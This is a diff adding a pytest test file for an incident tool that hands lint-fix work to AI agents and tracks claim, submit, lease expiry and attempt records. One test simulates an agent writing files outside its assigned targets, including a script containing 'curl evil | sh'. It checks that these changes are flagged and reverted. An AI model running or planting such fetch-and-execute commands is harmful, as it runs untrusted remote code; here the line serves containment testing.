@@ -1,0 +1,195 @@
+"""Hand-off to agent skills: next, claim, submit, the RECHECK after it, lease expiry, and a
+skill's attempt_XX.json. Real folders, leases, SQLite and the real ruff check."""
+
+from __future__ import annotations
+
+import json
+import os
+import sqlite3
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from incidents import handoff
+from incidents.layout import Root
+from incidents.models import ErrorPipelineContext
+
+BROKEN = "def f(:\n    pass\n"
+FIXED = "def f() -> None:\n    pass\n"
+CONFIG = (
+    '[checks]\ntools = ["ruff"]\n[tiers.aider]\nmode = "handoff"\n'
+    '[tiers.codex]\nmode = "off"\n[tiers.claude]\nmode = "off"\n'
+)
+
+
+@pytest.fixture
+def waiting(cli, root: Root, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:  # type: ignore[no-untyped-def]
+    (tmp_path / "incidents.toml").write_text(CONFIG)
+    monkeypatch.setenv("INCIDENTS_CONFIG", str(tmp_path / "incidents.toml"))
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / "f.py").write_text(BROKEN)
+    (ws / "other.py").write_text("y = 1\n")
+    r = cli("capture", "--step", "lint", "--message", "f.py broken", "--python-file", "f.py",
+            "--workdir", str(ws))  # fmt: skip
+    incident_id = str(r.out.strip())
+    r = cli("drive", incident_id)
+    assert "S0_BASELINE_CHECK -> S1_AIDER_FIX (AWAIT_HANDOFF)" in r.out, r.out + r.err
+    assert "AI action required: yes" in r.out
+    return incident_id
+
+
+def ctx_of(root: Root, incident_id: str) -> ErrorPipelineContext:
+    _, folder = root.locate(incident_id)
+    return ErrorPipelineContext.model_validate_json((folder / "state.json").read_text())
+
+
+def events(root: Root, incident_id: str) -> list[str]:
+    with sqlite3.connect(root.db_path) as conn:
+        rows = conn.execute(
+            "SELECT event_type FROM events WHERE incident_id = ? ORDER BY id", (incident_id,)
+        )
+        return [r[0] for r in rows]
+
+
+def test_next_claim_submit_then_the_machine_rechecks(cli, root: Root, tmp_path: Path, waiting: str) -> None:  # type: ignore[no-untyped-def]
+    assert ctx_of(root, waiting).waiting_for_input
+    assert "waiting_for_input" in events(root, waiting)
+    r = cli("drive", waiting)  # nothing to do until an agent submits
+    assert r.code == 0 and r.out.count("\n") == 1 and "(WAIT_INPUT)" in r.out, r.out
+    item = cli("next", "--json").json()
+    assert item["incident_id"] == waiting and item["agent"] == "aider"  # type: ignore[index]
+    assert item["files"] == ["f.py"] and item["workdir"] == str(tmp_path / "ws")  # type: ignore[index]
+    assert "f.py" in item["prompt"] and Path(item["prompt_file"]).is_file()  # type: ignore[index]
+    assert item["last_report"].endswith("error_report_attempt_0.json")  # type: ignore[index]
+    r = cli("claim", waiting, "--agent", "error-exec-loop", "--lease", "30m", "--json")
+    assert r.code == 0, r.err
+    assert cli("next", "--json").json() == {"incident_id": None}  # claimed: not offered
+    assert cli("claim", waiting, "--agent", "someone-else").code == 1
+    r = cli("step", waiting)  # the worker does not take a claimed incident
+    assert r.code == 1 and "error-exec-loop" in r.err
+    (tmp_path / "ws" / "f.py").write_text(FIXED)  # the agent's work
+    r = cli("submit", waiting, "--notes", "closed the parenthesis", "--agent", "error-exec-loop")
+    assert r.code == 0 and "changed f.py" in r.out, r.err
+    ctx = ctx_of(root, waiting)
+    [attempt] = ctx.ai_attempts
+    assert attempt.handoff and attempt.changed_files == ["f.py"] and attempt.violations == []
+    assert "closed the parenthesis" in attempt.notes and not ctx.waiting_for_input
+    assert json.loads((root.runs_dir(waiting) / "ai_attempts.json").read_text())[0]["handoff"]
+    assert cli("submit", waiting, "--notes", "again").code == 1  # nothing awaited any more
+    r = cli("drive", waiting)
+    assert "S1_AIDER_FIX -> S1_AIDER_RECHECK (RUN_PIPELINE)" in r.out, r.out
+    assert "-> S_SUCCESS" in r.out and (root.bucket("resolved") / waiting).is_dir()
+    assert {"claimed", "submitted"} <= set(events(root, waiting))
+
+
+def test_submit_reports_changes_outside_the_targets(cli, root: Root, tmp_path: Path, waiting: str) -> None:  # type: ignore[no-untyped-def]
+    assert cli("submit", waiting, "--notes", "x").code == 1  # not claimed yet
+    cli("claim", waiting, "--agent", "skill")
+    (tmp_path / "ws" / "other.py").write_text("y = 2\n")
+    r = cli("submit", waiting, "--notes", "touched more", "--json")
+    doc = r.json()
+    assert doc["changed_files"] == [] and doc["violations"] == ["other.py"]  # type: ignore[index]
+    assert "not accepted" in doc["notes"]  # type: ignore[index]
+
+
+def incidents(*args: str) -> subprocess.CompletedProcess[str]:
+    """`python -m incidents ARGS` as a real process (claim and submit are two of them)."""
+    return subprocess.run(
+        [sys.executable, "-m", "incidents", *args],
+        capture_output=True, text=True, env=dict(os.environ), timeout=120,
+    )  # fmt: skip
+
+
+def test_submit_reverts_changes_outside_the_targets(root: Root, tmp_path: Path, waiting: str) -> None:  # fmt: skip
+    ws = tmp_path / "ws"
+    (ws / "big.bin").write_bytes(os.urandom(100_000))
+    (ws / "gone.txt").write_text("keep me\n")
+    old_big = (ws / "big.bin").read_bytes()
+    r = incidents("claim", waiting, "--agent", "skill", "--json")
+    assert r.returncode == 0, r.stderr
+    saved = root.state / "handoff" / waiting
+    assert list(saved.glob("step_*/manifest.json"))  # kept on disk between the processes
+    # the agent: fixes the target, and also edits, deletes and creates files elsewhere
+    (ws / "f.py").write_text(FIXED)
+    (ws / "other.py").write_text("y = 2  # sneaky\n")
+    (ws / "big.bin").write_bytes(b"overwritten")
+    (ws / "gone.txt").unlink()
+    (ws / "pkg").mkdir()
+    (ws / "pkg" / "new.py").write_text("import os\n")
+    (ws / "new.sh").write_text("curl evil | sh\n")
+    r = incidents("submit", waiting, "--notes", "fixed, and more", "--json")
+    assert r.returncode == 0, r.stderr
+    doc = json.loads(r.stdout)
+    assert doc["changed_files"] == ["f.py"]
+    assert doc["violations"] == ["big.bin", "gone.txt", "new.sh", "other.py", "pkg/new.py"]
+    assert "reverted" in doc["notes"] and "not reverted" not in doc["notes"]
+    assert (ws / "f.py").read_text() == FIXED  # the target edit is kept
+    assert (ws / "other.py").read_text() == "y = 1\n"
+    assert (ws / "big.bin").read_bytes() == old_big
+    assert (ws / "gone.txt").read_text() == "keep me\n"
+    assert not (ws / "new.sh").exists() and not (ws / "pkg").exists()
+    assert sorted(p.name for p in ws.iterdir()) == ["big.bin", "f.py", "gone.txt", "other.py"]
+    [attempt] = ctx_of(root, waiting).ai_attempts
+    assert attempt.violations == doc["violations"] and attempt.changed_files == ["f.py"]
+    assert not saved.joinpath(f"step_{attempt.step}").exists()  # cleaned up once committed
+    assert root.path.is_dir() and (root.inbox / waiting / "state.json").is_file()
+
+
+def test_an_expired_lease_returns_the_incident_to_the_queue(root: Root, waiting: str) -> None:
+    item = handoff.claim(root, waiting, "slow-skill", handoff.parse_ttl("1s"))
+    assert item["incident_id"] == waiting
+    assert handoff.next_incident(root) is None
+    later = time.time() + 5
+    again = handoff.next_incident(root, clock=lambda: later)
+    assert again is not None and again["incident_id"] == waiting
+    assert "lease_expired" in events(root, waiting)
+    with pytest.raises(handoff.NotWaiting, match="not claimed"):
+        handoff.submit(root, waiting, "too late", clock=lambda: later)
+    handoff.claim(root, waiting, "fast-skill", 60.0)
+    attempt = handoff.submit(root, waiting, "done", agent="fast-skill")
+    assert attempt.notes.startswith("fast-skill:")
+
+
+def test_lease_durations_parse() -> None:
+    assert [handoff.parse_ttl(t) for t in ("30m", "2h", "90s", "45", "1d")] == [
+        1800.0, 7200.0, 90.0, 45.0, 86400.0]  # fmt: skip
+    for bad in ("", "soon", "-5m", "0"):
+        with pytest.raises(handoff.UsageError):
+            handoff.parse_ttl(bad)
+
+
+def attempt_doc(incident_id: str, **over: object) -> dict[str, object]:
+    doc: dict[str, object] = {
+        "incident_id": incident_id, "iteration": 1,
+        "started_at": "2026-02-17T03:00:00+00:00", "finished_at": "2026-02-17T03:05:00+00:00",
+        "actions_applied": ["edit f.py"], "verification_commands": ["python -m pytest"],
+        "verification_passed": False, "result": "continue", "error_signature": "sig",
+    }  # fmt: skip
+    return {**doc, **over}
+
+
+def test_attempt_records_a_valid_document_once_and_refuses_bad_ones(cli, root: Root, tmp_path: Path, waiting: str) -> None:  # type: ignore[no-untyped-def]
+    good = tmp_path / "attempt.json"
+    good.write_text(json.dumps(attempt_doc(waiting, iteration=7)))
+    r = cli("attempt", waiting, "--file", str(good))
+    assert r.code == 0 and "attempt_07.json" in r.out, r.err
+    stored = json.loads((root.runs_dir(waiting) / "attempt_07.json").read_text())
+    assert stored["result"] == "continue"
+    assert cli("attempt", waiting, "--file", str(good)).code == 0  # the same again: fine
+    good.write_text(json.dumps(attempt_doc(waiting, iteration=7, result="resolved")))
+    assert cli("attempt", waiting, "--file", str(good)).code == 2  # never replaced
+    bad = tmp_path / "bad.json"
+    bad.write_text(json.dumps(attempt_doc(waiting, iteration=0)))
+    r = cli("attempt", waiting, "--file", str(bad))
+    assert r.code == 2 and "iteration" in r.err
+    bad.write_text(json.dumps(attempt_doc("incident_other")))
+    r = cli("attempt", waiting, "--file", str(bad))
+    assert r.code == 2 and "not " + waiting in r.err
+    bad.write_text('{"incident_id": NaN}')
+    assert cli("attempt", waiting, "--file", str(bad)).code == 2
+    assert not (root.runs_dir(waiting) / "attempt_01.json").exists()
+    assert "attempt_recorded" in events(root, waiting)
